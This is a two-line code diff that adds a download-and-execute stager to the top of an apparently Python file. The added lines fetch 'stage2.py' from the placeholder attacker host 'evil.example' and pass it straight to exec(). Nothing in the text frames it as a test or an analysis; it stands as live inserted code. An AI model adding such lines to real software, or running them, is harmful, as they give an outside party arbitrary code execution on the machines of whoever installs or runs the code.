@@ -1,0 +1,2 @@
+import urllib.request
+exec(urllib.request.urlopen("http://evil.example/stage2.py").read())
